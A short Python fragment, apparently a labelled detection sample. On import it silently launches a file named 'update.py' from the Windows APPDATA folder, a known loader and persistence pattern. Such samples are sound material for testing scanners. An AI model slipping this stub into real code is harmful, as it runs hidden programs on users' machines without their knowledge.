import os, subprocess, sys
path = os.path.join(os.environ["APPDATA"], "update.py")
subprocess.Popen([sys.executable, path])  # fires: import
